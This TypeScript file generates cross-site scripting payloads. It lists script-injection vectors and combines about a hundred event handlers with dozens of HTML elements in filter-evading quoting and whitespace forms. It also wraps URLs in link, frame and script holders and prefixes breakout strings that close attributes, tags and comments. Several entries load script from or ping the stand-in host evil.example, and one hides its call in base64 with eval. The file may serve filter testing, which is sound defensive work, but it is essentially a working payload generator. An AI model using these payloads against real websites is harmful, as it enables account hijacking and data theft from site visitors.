// Markup that runs: elements with events, elements with addresses, and the ends of what a text may stand in.

import { runningAddresses } from "./addresses.ts";

/** Run without anybody's doing, each by another way. */
export const vectors = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<body onpageshow=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<object data=javascript:alert(1)></object>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<script src=//evil.example/a.js></script>",
  "<style>@import '//evil.example/a.css';</style>",
];

const events = (
  "abort afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy " +
  "beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload blur canplay change click close contextmenu copy cuechange cut " +
  "dblclick drag dragend dragenter drop durationchange ended error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown " +
  "keypress keyup load loadeddata loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup pagehide pageshow " +
  "paste play playing pointercancel pointerdown pointerenter pointermove pointerover pointerrawupdate pointerup popstate progress reset resize scroll " +
  "scrollend search securitypolicyviolation select selectionchange slotchange storage submit timeupdate toggle touchend touchmove touchstart " +
  "transitionend transitionrun transitionstart unhandledrejection unload volumechange webkitanimationstart wheel"
).split(" ");

const elements = (
  "a abbr area article audio b blockquote body button canvas code custom-element details dialog div embed fieldset form frameset iframe " +
  "image img input isindex keygen link marquee math menu object option p picture pre s section select source span style summary svg table textarea " +
  "track video xss"
).split(" ");

/** How the attribute is separated and quoted; markup breaks out of filters that know only one of these. */
const shapes: readonly ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} on${event}="alert(1)">fire</${element}>`,
  (element, event) => `<${element} on${event}='alert(1)' tabindex=1 autofocus contenteditable>fire`,
  (element, event) => `<${element}/on${event}=alert(1)//`,
  (element, event) => `<${element.toUpperCase()}\tON${event.toUpperCase()}\t=\talert(1)>fire</${element}>`,
  (element, event) => `<${element}\nsrc=x\non${event}\n=\nalert(1)\n>`,
  (element, event) => `<${element} src="x" x='"' on${event}=alert&lpar;1&rpar; style="display:block">`,
  (element, event) => `"><${element} on${event}=alert\`1\`>`,
  (element, event) => `x" on${event}="alert(1)" ${element}="`,
  (element, event) => `x' on${event}='alert(1)' ${element}='`,
  (element, event) => `<<${element} <${element} on${event}=eval(atob('YWxlcnQoMSk='))>`,
];

/** Each element with a third of the events, each event with a third of the elements, in changing shapes. */
export function* eventMarkup(): Iterable<string> {
  let turn = 0;
  for (const [at, element] of elements.entries()) {
    for (const [place, event] of events.entries()) {
      if ((at + place) % 3 > 0) continue;
      yield (shapes[turn++ % shapes.length] as (element: string, event: string) => string)(element, event);
    }
  }
}

const holders: readonly ((address: string) => string)[] = [
  (url) => `<a href="${url}">fire</a>`,
  (url) => `<a href=${url} target=_blank ping=//evil.example>fire</a>`,
  (url) => `<iframe src='${url}'></iframe>`,
  (url) => `<form action="${url}"><input type=submit></form>`,
  (url) => `<button form=x formaction="${url}">fire</button>`,
  (url) => `<object data="${url}"></object><embed src="${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text y=20>fire</text></a></svg>`,
  (url) => `<math><maction actiontype=statusline xlink:href="${url}">fire</maction></math>`,
  (url) => `<base href="${url}">`,
  (url) => `<meta http-equiv="refresh" content="0; url=${url}">`,
  (url) => `<link rel=stylesheet href="${url}"><link rel=import href="${url}">`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<img src="${url}" srcset="${url} 2x" longdesc="${url}">`,
  (url) => `<video poster="${url}" src="${url}"></video>`,
  (url) => `<body background="${url}"><table background="${url}">`,
];

/** Each holder with a tenth of the addresses. */
export function* addressMarkup(): Iterable<string> {
  const addresses = [...runningAddresses()];
  for (const [at, holder] of holders.entries())
    for (const [place, address] of addresses.entries()) if ((at + place) % 13 === 0) yield holder(address);
}

const ends = (
  `" | ' | > | "> | '> | \`> | </title> | </script> | </style> | </textarea> | </noscript> | </xmp> | </template> | </svg> | </math> | </select> | --> | --!> | ]]> | ?> | %> | ` +
  `</a> | </p></div></article></main> | <!-- | <![CDATA[ | <!--<script> | </ | \\" | \\' | &quot;> | &#34;> | %22%3E | \u2028 | \u2029 | *//* | ');// | ");// | \\u003e | {{/}}`
).split(" | ");

/** Ends of attributes, elements and comments, with something that runs after them. */
export function* breakouts(): Iterable<string> {
  for (const end of ends) for (const vector of vectors) yield end + vector;
}
